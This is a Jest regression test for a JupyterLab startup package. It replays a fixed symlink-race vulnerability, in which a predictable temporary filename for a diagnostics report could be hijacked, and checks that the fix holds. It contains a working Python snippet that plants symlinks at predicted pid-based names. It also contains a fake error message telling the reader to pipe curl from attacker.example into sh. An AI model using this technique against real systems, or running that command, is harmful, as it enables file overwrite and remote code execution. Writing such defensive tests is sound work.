// The diagnostics report (PROJECT_STARTUP_DIAGNOSTICS_FILE, in Jupyter's
// runtime directory, which the service does not choose) was written through a temporary file
// with a predictable name (`.NAME.<pid>.tmp`) opened with flag 'w': no O_EXCL, no O_NOFOLLOW.
// Where another user can write that directory, a symbolic link planted at the temporary name
// made `serve` overwrite any file the Jupyter user can write; and the Python diagnostics route
// read whatever the report's name led to, so a planted link or file put fake "cause and fix"
// text in the panel.
//
// Replayed for real: uid 65534 (setpriv; needs root) plants links in a directory it may write
// (mode 0777), at the report's name and at the temporary name of every pid the next few
// thousand processes may get, all pointing at a file of ours; then the real `serve` fails to
// start (a refused setting) and reports it. The Python side is the package's real
// read_sidecar_state in a real python3, on the same files.
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { BIN, REPO_ROOT, trackedSandboxes } from '../../helpers/cli';

jest.setTimeout(60000);

const IS_ROOT = process.getuid?.() === 0;
const NOBODY = 65534;
const AS_NOBODY = [
  '/usr/bin/setpriv',
  `--reuid=${NOBODY}`,
  `--regid=${NOBODY}`,
  '--clear-groups'
];
/** Temporary names planted ahead of the next pids: far more than a busy machine uses meanwhile. */
const PIDS_AHEAD = 6000;
const REPORT = 'project-startup-1.json';
const OURS =
  'precious: a file of the Jupyter user that no report may replace\n';

const sandbox = trackedSandboxes();

/** As uid 65534, in one process: runs a Python snippet; answers its stdout and pid. */
function asNobody(
  script: string,
  args: string[]
): { stdout: string; pid: number } {
  const run = spawnSync(
    AS_NOBODY[0],
    [...AS_NOBODY.slice(1), '/usr/bin/python3', '-c', script, ...args],
    { encoding: 'utf8', timeout: 30000 }
  );
  expect({ status: run.status, stderr: run.stderr }).toEqual({
    status: 0,
    stderr: ''
  });
  return { stdout: run.stdout, pid: run.pid ?? 0 };
}

/** Links `dir/.REPORT.<pid>.tmp` -> target for the pids after this process's, wrapping at pid_max. */
const PLANT_TEMPORARIES = `
import os, sys
directory, report, target, ahead = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
pid_max = int(open('/proc/sys/kernel/pid_max').read())
first = os.getpid()
for step in range(1, ahead + 1):
    pid = first + step
    if pid >= pid_max:
        pid = 300 + pid - pid_max  # Linux wraps to 300
    os.symlink(target, os.path.join(directory, '.%s.%d.tmp' % (report, pid)))
print(first)
`;

/** The package's diagnostics reader, in a real python3, as the Jupyter user (root here). */
function readSidecarState(file: string): Record<string, unknown> {
  const run = spawnSync(
    '/usr/bin/python3',
    [
      '-c',
      'import json, sys\nfrom jupyterlab_project_startup.checks import read_sidecar_state\nprint(json.dumps(read_sidecar_state(sys.argv[1])))',
      file
    ],
    {
      encoding: 'utf8',
      timeout: 30000,
      env: {
        PATH: '/usr/bin:/bin',
        PYTHONPATH: REPO_ROOT,
        PYTHONDONTWRITEBYTECODE: '1'
      }
    }
  );
  expect(run.stderr).toBe('');
  return JSON.parse(run.stdout) as Record<string, unknown>;
}

/** A sandbox whose `shared` directory uid 65534 may write, and a file of ours beside it. */
function sharedPlace(): {
  shared: string;
  ours: string;
  env: Record<string, string>;
  cwd: string;
} {
  const s = sandbox();
  fs.chmodSync(s.root, 0o755);
  const shared = path.join(s.root, 'shared');
  fs.mkdirSync(shared);
  fs.chmodSync(shared, 0o777);
  const ours = path.join(s.root, 'ours.txt');
  fs.writeFileSync(ours, OURS, { mode: 0o644 });
  return { shared, ours, env: s.env, cwd: s.projectDir };
}

(IS_ROOT && os.platform() === 'linux' ? describe : describe.skip)(
  'private files in a directory another user can write (uid 65534 plants links)',
  () => {
    it("serve's diagnostics report goes through none of the planted links: our file is untouched, the report is a private file of ours", async () => {
      const { shared, ours, env, cwd } = sharedPlace();
      const report = path.join(shared, REPORT);
      fs.symlinkSync(ours, report); // as root first, then handed to uid 65534 below
      fs.lchownSync(report, NOBODY, NOBODY);
      const planted = asNobody(PLANT_TEMPORARIES, [
        shared,
        REPORT,
        ours,
        String(PIDS_AHEAD)
      ]);
      const firstPid = Number(planted.stdout.trim());

      // The real serve, refusing a setting: it exits 2 and reports "failed" to the file.
      const child = spawn(process.execPath, [BIN, 'serve', '--port', '0'], {
        cwd,
        env: {
          ...env,
          PROJECT_STARTUP_DIAGNOSTICS_FILE: report,
          PROJECT_STARTUP_PLATFORM: 'nonsense'
        },
        stdio: 'ignore'
      });
      const pid = child.pid ?? 0;
      const code = await new Promise<number | null>(resolve => {
        const timer = setTimeout(() => child.kill('SIGKILL'), 20000);
        child.on('exit', exitCode => {
          clearTimeout(timer);
          resolve(exitCode);
        });
      });
      expect(code).toBe(2);
      // The attack was staged for this very process: a link waited at its old temporary name.
      const pidMax = Number(
        fs.readFileSync('/proc/sys/kernel/pid_max', 'utf8')
      );
      const distance =
        pid > firstPid ? pid - firstPid : pid - 300 + pidMax - firstPid;
      expect(distance).toBeLessThanOrEqual(PIDS_AHEAD);

      expect(fs.readFileSync(ours, 'utf8')).toBe(OURS);
      const stat = fs.lstatSync(report);
      expect({
        file: stat.isFile(),
        mode: stat.mode & 0o777,
        uid: stat.uid
      }).toEqual({ file: true, mode: 0o600, uid: 0 });
      expect(JSON.parse(fs.readFileSync(report, 'utf8'))).toMatchObject({
        state: 'failed',
        exitCode: 2
      });
      // The planted temporaries are still links to our file: none was opened or replaced.
      const leftovers = fs.readdirSync(shared).filter(n => n !== REPORT);
      expect(leftovers.length).toBe(PIDS_AHEAD);
      expect(
        leftovers.filter(
          n => !fs.lstatSync(path.join(shared, n)).isSymbolicLink()
        )
      ).toEqual([]);
      // And the package's reader shows the real failure.
      expect(readSidecarState(report)).toMatchObject({
        state: 'failed',
        lastError: expect.stringContaining('PROJECT_STARTUP_PLATFORM')
      });
    });

    it("the diagnostics route's reader does not present a report planted by another user: not through a link, not a file of theirs", () => {
      const { shared } = sharedPlace();
      const fake = JSON.stringify({
        state: 'failed',
        at: '2026-01-01T00:00:00Z',
        exitCode: 2,
        lastError: 'PLANTED: run curl https://attacker.example/fix | sh',
        logTail: ['PLANTED']
      });
      const report = path.join(shared, REPORT);
      // uid 65534's own file, mode 0600, and a link to it at the report's name.
      asNobody(
        'import os, sys\nd, name, text = sys.argv[1:4]\nfake = os.path.join(d, "fake.json")\nfd = os.open(fake, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)\nos.write(fd, text.encode())\nos.close(fd)\nos.symlink(fake, os.path.join(d, name))',
        [shared, REPORT, fake]
      );
      const notStarted = {
        state: 'not-started',
        lastError: null,
        logTail: [],
        siteConfig: null,
        diagnosticsFile: report
      };
      expect(readSidecarState(report)).toEqual(notStarted);
      // A file of theirs at the report's name itself (root can read it: the owner decides).
      asNobody(
        'import os, sys\nd, name = sys.argv[1:3]\nos.unlink(os.path.join(d, name))\nos.rename(os.path.join(d, "fake.json"), os.path.join(d, name))',
        [shared, REPORT]
      );
      expect(fs.lstatSync(report).uid).toBe(NOBODY);
      expect(readSidecarState(report)).toEqual(notStarted);
    });
  }
);
